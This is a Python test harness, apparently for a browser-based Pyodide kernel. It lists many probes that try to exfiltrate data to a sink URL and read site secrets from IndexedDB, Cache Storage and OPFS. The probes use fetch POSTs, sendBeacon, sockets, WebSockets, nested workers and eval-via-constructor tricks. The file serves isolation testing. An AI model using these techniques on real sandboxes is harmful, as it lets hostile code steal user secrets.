"""What hostile Python may try to get out of the kernel: the source of one node. Each probe is one way; what it read and whether the sink was reached is judged outside.

`network` probes call `{sink}/hit/<id>`; `read` probes return what they found, and a leak is what holds the page's secret; `message` probes speak to the page.
"""

import asyncio
import json
from collections.abc import Awaitable, Callable
from typing import Any

import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

LIMIT_S = {"datagram": 3.0}
USUAL_LIMIT_S = 20.0
_probes: list[tuple[str, str, Callable[[str], Any]]] = []


def probe(kind: str, name: str) -> Callable[[Callable[[str], Any]], Callable[[str], Any]]:
    """Registers one way."""

    def register(function: Callable[[str], Any]) -> Callable[[str], Any]:
        _probes.append((kind, name, function))
        return function

    return register


def plain(**fields: Any) -> Any:
    """A JavaScript object."""
    return to_js(fields, dict_converter=js.Object.fromEntries)


FETCH = "WorkerGlobalScope.prototype.fetch.bind(self)"
"""The original one in JavaScript: what the worker calls `fetch` is the kernel's own."""


class Scope:
    """The worker's own global object, which `js` does not show: the `this` of a callback."""

    true: Any = None
    policy: Any = None


async def find_scope() -> None:
    found = asyncio.get_running_loop().create_future()

    def take(this: Any, *_rest: Any) -> None:
        found.set_result(this)

    js.setTimeout(create_proxy(take, capture_this=True), 0)
    Scope.true = await found


def method(holder: Any, name: str) -> Any:
    """A method of `holder` as its prototypes have it, past what was put over it."""
    above = js.Object.getPrototypeOf(holder)
    while above:
        if js.Object.prototype.hasOwnProperty.call(above, name):
            function = js.Reflect.get(above, name, holder)
            return lambda *rest: js.Reflect.apply(function, holder, to_js(list(rest)))
        above = js.Object.getPrototypeOf(above)
    raise AttributeError(f"no {name} here")


def made(name: str, *rest: Any) -> Any:
    """`new name(…)` of the true scope."""
    return js.Reflect.construct(getattr(Scope.true, name), to_js(list(rest)))


async def event_of(target: Any, *names: str) -> Any:
    """The first of these events."""
    came = asyncio.get_running_loop().create_future()

    def take(event: Any) -> None:
        event.preventDefault()  # or a worker's error would be this worker's own
        if not came.done():
            came.set_result(event.type)

    for name in names:
        target.addEventListener(name, create_proxy(take))
    return await came


def script_url(text: str) -> Any:
    """The trusted address of a script made from text, as the kernel's own frame makes it."""
    url = Scope.true.URL.createObjectURL(made("Blob", to_js([text]), plain(type="text/javascript")))
    types = getattr(Scope.true, "trustedTypes", None)
    if not types:
        return url
    if Scope.policy is None:
        Scope.policy = types.createPolicy("pythonflows", plain(createScriptURL=create_proxy(lambda text, *_: text)))
    return Scope.policy.createScriptURL(url)


# --- Python's own ways --------------------------------------------------------------------------------------------


@probe("network", "urllib.request")
def _(url: str) -> Any:
    import urllib.request

    with urllib.request.urlopen(url, timeout=5) as response:
        return response.read()


@probe("network", "http.client")
def _(url: str) -> Any:
    import http.client
    from urllib.parse import urlsplit

    connection = http.client.HTTPConnection(urlsplit(url).netloc, timeout=5)
    connection.request("GET", urlsplit(url).path)
    return connection.getresponse().read()


@probe("network", "socket")
def _(url: str) -> Any:
    import socket
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=5) as connection:
        connection.settimeout(5)
        connection.sendall(f"GET {parts.path} HTTP/1.0\r\n\r\n".encode())
        return connection.recv(100)


@probe("network", "asyncio.open_connection")
async def _(url: str) -> Any:
    from urllib.parse import urlsplit

    parts = urlsplit(url)
    _reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
    writer.write(f"GET {parts.path} HTTP/1.0\r\n\r\n".encode())


@probe("network", "pyodide.http.pyfetch")
async def _(url: str) -> Any:
    from pyodide.http import pyfetch

    return await (await pyfetch(url)).string()


@probe("network", "pyodide.http.open_url")
def _(url: str) -> Any:
    from pyodide.http import open_url

    return open_url(url).read()


@probe("network", "pyodide_js.loadPackage")
async def _(url: str) -> Any:
    import pyodide_js

    return await pyodide_js.loadPackage(url.replace(".js", "-1.0-py3-none-any.whl"))


# --- evaluated JavaScript -----------------------------------------------------------------------------------------


@probe("network", "run_js")
async def _(url: str) -> Any:
    await run_js(f"{FETCH}('{url}')")


@probe("network", "run_js with import()")
async def _(url: str) -> Any:
    await run_js(f"import('{url}')")


@probe("network", "eval of the true scope")
async def _(url: str) -> Any:
    await Scope.true.eval(f"{FETCH}('{url}')")


@probe("network", "Function by constructor")
async def _(url: str) -> Any:
    await js.Object.constructor(f"return {FETCH}('{url}')")()


@probe("network", "async function's constructor")
async def _(url: str) -> Any:
    import pyodide_js

    await pyodide_js.loadPackage.constructor(f"await {FETCH}('{url}')")()


@probe("network", "constructor of a constructor")
async def _(url: str) -> Any:
    await js.Array.prototype.map.constructor.constructor(f"return {FETCH}('{url}')")()


@probe("network", "Reflect.construct of Function")
async def _(url: str) -> Any:
    await js.Reflect.construct(js.Object.constructor, to_js([f"return {FETCH}('{url}')"]))()


@probe("network", "setTimeout of text")
async def _(url: str) -> Any:
    came = asyncio.get_running_loop().create_future()
    method(Scope.true, "setTimeout")(f"{FETCH}('{url}')", 0)
    js.setTimeout(create_proxy(lambda: came.set_result("ran")), 50)
    return await came


# --- fetch and its relatives --------------------------------------------------------------------------------------


@probe("network", "js.fetch")
async def _(url: str) -> Any:
    return await (await js.fetch(url)).text()


@probe("network", "fetch of the true scope")
async def _(url: str) -> Any:
    return await (await Scope.true.fetch(url)).text()


@probe("network", "the original fetch")
async def _(url: str) -> Any:
    return await (await method(Scope.true, "fetch")(url)).text()


@probe("network", "fetch without CORS")
async def _(url: str) -> Any:
    return await method(Scope.true, "fetch")(url, plain(mode="no-cors"))


@probe("network", "fetch that posts")
async def _(url: str) -> Any:
    return await method(Scope.true, "fetch")(url, plain(method="POST", body="secrets"))


@probe("network", "fetch with a preflight")
async def _(url: str) -> Any:
    return await method(Scope.true, "fetch")(url, plain(method="PUT", headers=plain(**{"X-Mine": "1"})))


@probe("network", "fetch that outlives its maker")
async def _(url: str) -> Any:
    return await method(Scope.true, "fetch")(url, plain(keepalive=True, method="POST", body="x"))


@probe("network", "fetch of a Request")
async def _(url: str) -> Any:
    return await method(Scope.true, "fetch")(js.Reflect.construct(js.Request, to_js([url])))


@probe("network", "XMLHttpRequest")
async def _(url: str) -> Any:
    request = made("XMLHttpRequest")
    request.open("GET", url)
    request.send()
    return await event_of(request, "load", "error")


@probe("network", "XMLHttpRequest, synchronous")
def _(url: str) -> Any:
    request = made("XMLHttpRequest")
    request.open("GET", url, False)
    request.send()
    return request.responseText


@probe("network", "WebSocket")
async def _(url: str) -> Any:
    return await event_of(made("WebSocket", url.replace("http", "ws", 1)), "open", "error")


@probe("network", "WebSocketStream")
async def _(url: str) -> Any:
    return await made("WebSocketStream", url.replace("http", "ws", 1)).opened


@probe("network", "EventSource")
async def _(url: str) -> Any:
    source = made("EventSource", url)
    came = await event_of(source, "open", "error")
    source.close()
    return came


@probe("network", "navigator.sendBeacon")
async def _(url: str) -> Any:
    return Scope.true.navigator.sendBeacon(url, "secrets")


@probe("datagram", "WebTransport")
async def _(url: str) -> Any:
    return await made("WebTransport", url).ready


@probe("datagram", "RTCPeerConnection")
async def _(url: str) -> Any:
    return made("RTCPeerConnection", plain(iceServers=to_js([plain(urls=url)])))


@probe("network", "FontFace")
async def _(url: str) -> Any:
    return await made("FontFace", "mine", f"url({url})").load()


@probe("network", "importScripts")
def _(url: str) -> Any:
    return method(Scope.true, "importScripts")(url)


# --- further workers and modules ----------------------------------------------------------------------------------


async def in_worker(text: str, **options: Any) -> Any:
    worker = made("Worker", script_url(text), plain(**options))
    return await event_of(worker, "message", "error")


@probe("network", "a worker that fetches")
async def _(url: str) -> Any:
    return await in_worker(f"fetch('{url}').finally(() => postMessage(1))")


@probe("network", "a worker that imports scripts")
async def _(url: str) -> Any:
    return await in_worker(f"importScripts('{url}'); postMessage(1)")


@probe("network", "a worker that imports a module")
async def _(url: str) -> Any:
    return await in_worker(f"import('{url}').finally(() => postMessage(1))")


@probe("network", "a module worker with an import")
async def _(url: str) -> Any:
    return await in_worker(f"import '{url}'; postMessage(1)", type="module")


@probe("network", "a worker by address")
async def _(url: str) -> Any:
    return await event_of(made("Worker", url), "message", "error")


@probe("network", "a worker of a worker")
async def _(url: str) -> Any:
    inner = f"fetch('{url}').finally(() => postMessage(1))"
    outer = (
        "const types = self.trustedTypes?.createPolicy('pythonflows', {createScriptURL: url => url});"
        f"const url = URL.createObjectURL(new Blob([{json.dumps(inner)}]));"
        "new Worker(types ? types.createScriptURL(url) : url).onmessage = () => postMessage(1)"
    )
    return await in_worker(outer)


@probe("absent", "SharedWorker")
def _(_url: str) -> Any:
    return Scope.true.SharedWorker


# --- what the browser keeps for the site --------------------------------------------------------------------------


@probe("read", "IndexedDB")
async def _(_url: str) -> Any:
    opening = Scope.true.indexedDB.open("secrets")
    await event_of(opening, "success", "error")
    asking = opening.result.transaction("secrets").objectStore("secrets").get("secret")
    await event_of(asking, "success", "error")
    return asking.result


@probe("read", "Cache Storage")
async def _(url: str) -> Any:
    site = url.partition("#")[2]  # a worker from a blob has no address to be relative to
    return await (await Scope.true.caches.match(site + "secret")).text()


@probe("read", "the private file system (OPFS)")
async def _(_url: str) -> Any:
    folder = await Scope.true.navigator.storage.getDirectory()
    return await (await (await folder.getFileHandle("secret")).getFile()).text()


@probe("read", "names of Web Locks")
async def _(_url: str) -> Any:
    return js.JSON.stringify(await Scope.true.navigator.locks.query())


@probe("read", "a file of the site")
async def _(url: str) -> Any:
    site = url.partition("#")[2]
    return await (await method(Scope.true, "fetch")(site + "config.json")).text()


@probe("message", "BroadcastChannel")
async def _(_url: str) -> Any:
    made("BroadcastChannel", "isolation").postMessage("from Python")
    await asyncio.sleep(0.1)


# --- what only documents have: a worker must not have got it by accident --------------------------------------------

for _name in (
    "cookieStore",
    "document",
    "window",
    "parent",
    "top",
    "opener",
    "frames",
    "localStorage",
    "sessionStorage",
    "Image",
    "open",
    "history",
):
    probe("absent", _name)(lambda _url, name=_name: getattr(Scope.true, name))


async def attempt(kind: str, name: str, function: Callable[[str], Any], url: str) -> dict[str, str]:
    """What one probe says of itself."""
    try:
        result = function(url)
        if isinstance(result, Awaitable):
            result = await asyncio.wait_for(result, LIMIT_S.get(kind, USUAL_LIMIT_S))
        said = f"ended with {result}"
    except BaseException as error:  # a probe may end in any way
        said = f"{type(error).__name__}: {error}"
    return {"kind": kind, "name": name, "said": said[:300]}


async def probes(sink: str = "", site: str = "", stun: str = "", quic: str = "") -> int:
    await find_scope()
    results = []
    for kind, name, function in _probes:
        code = "".join(letter if letter.isalnum() else "_" for letter in name)
        url = f"{sink}/hit/python.{code}.{'events' if name == 'EventSource' else 'js'}"
        if kind == "datagram":
            url = quic if name == "WebTransport" else stun
        if name in ("a file of the site", "Cache Storage"):
            url = f"#{site}"
        results.append({**await attempt(kind, name, function, url), "id": f"python.{code}.{'events' if name == 'EventSource' else 'js'}"})
    print(json.dumps(results))
    return len(results)
